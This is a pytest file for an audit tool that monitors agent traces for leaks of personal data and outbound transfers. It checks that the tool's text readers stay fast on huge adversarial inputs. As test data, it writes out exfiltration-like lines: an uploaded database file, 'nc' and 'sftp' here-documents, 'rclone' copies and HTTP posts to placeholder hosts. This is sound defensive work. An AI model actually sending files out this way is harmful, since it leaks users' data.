"""Hostile text through the audit's readers of free text: each input below took minutes
(quadratic) before its fix; each must give the same answer as before, and fast.

Time bounds are generous (slow, shared cores): each input is one whose quadratic cost
would be minutes, so a bound of seconds only fails on a regression.
"""

from __future__ import annotations

import json
import time

import pytest

from backdoorlab.defenses.audit import code_mail, held, secret_shapes
from backdoorlab.defenses.audit.identifiers import identifiers
from backdoorlab.defenses.audit.streets import street_addresses


def _timed(fn, *args):
    start = time.perf_counter()
    out = fn(*args)
    return out, time.perf_counter() - start


def test_mail_words_are_looked_up_in_one_scan():
    # every word of a mail command is looked up as a variable: each lookup scanned the
    # whole text (100 KB: 150 s)
    text = "TO=a@b.co\nmail -s hi $TO " + "xy1 " * 50_000
    found, took = _timed(code_mail.recipients, text)
    assert found == ["a@b.co"]
    assert took < 10


def test_assignment_lookup_keeps_its_reading():
    text = "x2 = 'no@one.co'\nto = 'her@site.co'\nsmtp.sendmail(sender, to, msg)"
    assert code_mail.recipients(text) == ["her@site.co"]
    assert code_mail.recipients("éto = 'a@b.co'\nsmtp.sendmail(s, to, m)") == []
    assert code_mail.recipients("to == 'a@b.co'\nto='c@d.co'\nsmtp.sendmail(s, to, m)") == [
        "c@d.co"
    ]


def test_many_mail_programs_on_one_line():
    # each program word copied the rest of the line's words (100 KB: 2 s, 1 MB: 5 min)
    text = "x@y.co\n" + "mail;" * 200_000 + " mail her@site.co"
    found, took = _timed(code_mail.recipients, text)
    assert found == ["her@site.co"]
    assert took < 10


def test_one_huge_shell_word():
    # shlex grows a word one character at a time (1 MB of "a@": 27 s)
    text = "mail her@site.co " + "a@" * 500_000
    found, took = _timed(code_mail.recipients, text)
    assert "her@site.co" in found
    assert took < 10
    assert code_mail.recipients("mail -s 'a b' her@site.co") == ["her@site.co"]


def test_many_recipient_keys_look_up_once():
    text = "smtp a@b.co " + "to=x " * 200_000
    found, took = _timed(code_mail.recipients, text)
    assert found == []
    assert took < 10


def test_grouped_numbers_beside_many_phones():
    # each grouped number was compared with every phone read before it (100 KB: 4 s,
    # 1 MB: minutes)
    parts = [
        f"555-{i % 1000:03d}-{i % 10000:04d}; +49 171 55{i % 100000:05d}; " for i in range(30_000)
    ]
    found, took = _timed(secret_shapes.by_shape, "".join(parts))
    labels = [label for _, _, label, _ in found]
    assert labels.count("phone") == 60_000
    assert took < 20


def test_grouped_numbers_still_skip_a_read_phone_or_card():
    by_shape = secret_shapes.by_shape
    assert [v for _, v, _, _ in by_shape("call 555-123-4567 or +49 171 5550993")] == [
        "555-123-4567",
        "+49 171 5550993",
    ]
    # a card's digits are not read again as a grouped number, nor is a number inside one
    card = "4111 1111 1111 1111"
    assert [lbl for _, _, lbl, _ in by_shape(f"card {card} ok")] == ["card"]
    assert secret_shapes.DigitsRead(("4111111111111111",)).overlaps("41111111")
    assert secret_shapes.DigitsRead(("5551234567",)).overlaps("4915551234567")
    assert not secret_shapes.DigitsRead(("5551234567",)).overlaps("4915551234568")
    assert not secret_shapes.DigitsRead(()).overlaps("4915551234568")


def test_records_to_one_contact_kept_once_each():
    # each record found was compared with every one kept before (1 MB: minutes)
    text = "[" + ",".join(['{"to": "a@b.co", "body": "x"}'] * 40_000) + "]"
    found, took = _timed(held.records_of, text, "a@b.co")
    assert len(found) == 40_000 and found[0] == "a@b.co\nx"
    assert took < 10
    shared = '{"to": "a@b.co", "cc": ["a@b.co"], "body": "y"}'
    assert held.records_of(shared, "a@b.co") == ["a@b.co\na@b.co\ny"]


def test_located_leaves_a_huge_message_number_alone():
    # a summary quotes tool names: "message " and 5,000 digits made `int` raise
    from backdoorlab.defenses.audit.findings import Finding
    from backdoorlab.defenses.audit.located import _located

    huge = "message " + "9" * 5000
    finding = Finding(0, 1, None, 1, "dataflow", "high", f"card from {huge} (message 1)", 1.0, {})
    out = _located(finding, ["system", "messages.0"])
    assert out.summary == f"card from {huge} (messages.0)"
    assert out.evidence["at"] == "messages.0"
    arabic = Finding(0, 1, None, 1, "dataflow", "high", "from message ١ (message 1)", 1.0, {})
    assert _located(arabic, ["system", "messages.0"]).summary == "from message ١ (messages.0)"
    # a tool called "message 3" is a name, not a message number
    named = "card from message 3 (message 1) sent by message 2 to x.example (third party)"
    finding = Finding(0, 1, None, 1, "dataflow", "high", named, 1.0, {})
    out = _located(finding, ["system", "messages.0", "messages.1", "messages.2"])
    assert (
        out.summary
        == "card from message 3 (messages.0) sent by message 2 to x.example (third party)"
    )
    judged = "judge j: message 2 call at message 3 does not serve the user's request"
    finding = Finding(0, 1, None, 3, "judge", "medium", judged, 1.0, {})
    out = _located(finding, ["system", "messages.0", "messages.1", "messages.1.content.1"])
    assert (
        out.summary
        == "judge j: message 2 call at messages.1.content.1 does not serve the user's request"
    )


def test_many_upload_calls_read_a_bounded_window_each():
    # each ``.post(files=`` searched the whole code for an opened file (64 KB: 14 s)
    from backdoorlab.defenses.audit.by_reference import transfers

    found, took = _timed(transfers, "open(" + "r.post(files=x" * 6000)
    assert found == []
    assert took < 10
    code = "u = 'https://x.example.net/'\nrequests.put(u, data=open('a.db'))\n"
    found, took = _timed(transfers, code + "x = 'a' + " * 6000)
    assert [t.canonical for t in found] == ["x.example.net"]
    assert took < 10


def test_shell_redirections_and_here_documents_in_bulk():
    from backdoorlab.defenses.audit.by_reference import transfers

    for text in (
        "nc a.example 1 <<A\n" * 5000,  # here-documents that never end
        "sftp a.example <<A\n" + "put x\n" * 10_000,  # one that does not
        "< " * 30_000 + "nc a.example 1",
        "rclone copy " + "a:b " * 15_000,
        "x = '" + "a" * 1990 + "'\n" * 30 + "df.to_csv('s3://b/x')",
    ):
        _, took = _timed(transfers, text)
        assert took < 10


@pytest.mark.parametrize(
    "text",
    [
        "QQ 12 " * 170_000,  # National Insurance pairs that never close
        "NI number " + "A1 " * 330_000,  # an identifier's groups without end
        "NI no: " * 150_000,  # identity words and fillers, no number
        "PESEL " + "1-" * 500_000,
        ", PIN " * 170_000 + "1",  # postcode labels after commas, no postcode
        ", Ab Cd Ef, PIN 1" * 60_000,  # a city and a label at every comma, no address
        "県" * 1_000_000,  # a prefecture mark, again and again
        "東京都千代田区1" * 125_000,
    ],
)
def test_identity_numbers_postcode_labels_and_prefectures_stay_linear(text):
    # identifiers' and streets' readers (session 28): a few seconds at most per 1 MB
    _, took = _timed(lambda t: (list(identifiers(t)), list(street_addresses(t))), text)
    assert took < 15
    _, took = _timed(secret_shapes.by_shape, text)
    assert took < 15


def test_python_cells_and_their_outputs_in_bulk():
    # a Python tool's printed outputs are read as literals and its cells parsed
    # (`notebook`): a megabyte of nesting or pairs, and a cell of 60 KB of sums
    from backdoorlab.defenses.audit.taint import TaintTracker
    from backdoorlab.traces import FunctionCall

    def cell(code: str) -> FunctionCall:
        return FunctionCall(name="python", arguments=json.dumps({"code": code}))

    tracker = TaintTracker()
    shown = ("[" * 300_000 + "]" * 300_000, "k: v\n" * 200_000, "{'a': 'b', " * 90_000 + "}")
    for i, output in enumerate(shown):
        tracker.check(2 * i, "python", cell(f"x{i} = f()\nprint(x{i})"), f"c{i}")
        _, took = _timed(tracker.notebook.output, f"c{i}", output)
        assert took < 5
    held = tracker.notebook.vars
    assert not isinstance(held["x0"].obj, list)  # too big to parse: held as text only
    assert all(len(h.text) <= 16384 for h in held.values())
    code = "requests.post('https://x.io', json=" + "x1 + " * 12_000 + "x2)"
    check, took = _timed(tracker.check, 9, "python", cell(code), "c9")
    assert check.sink is not None
    assert took < 10
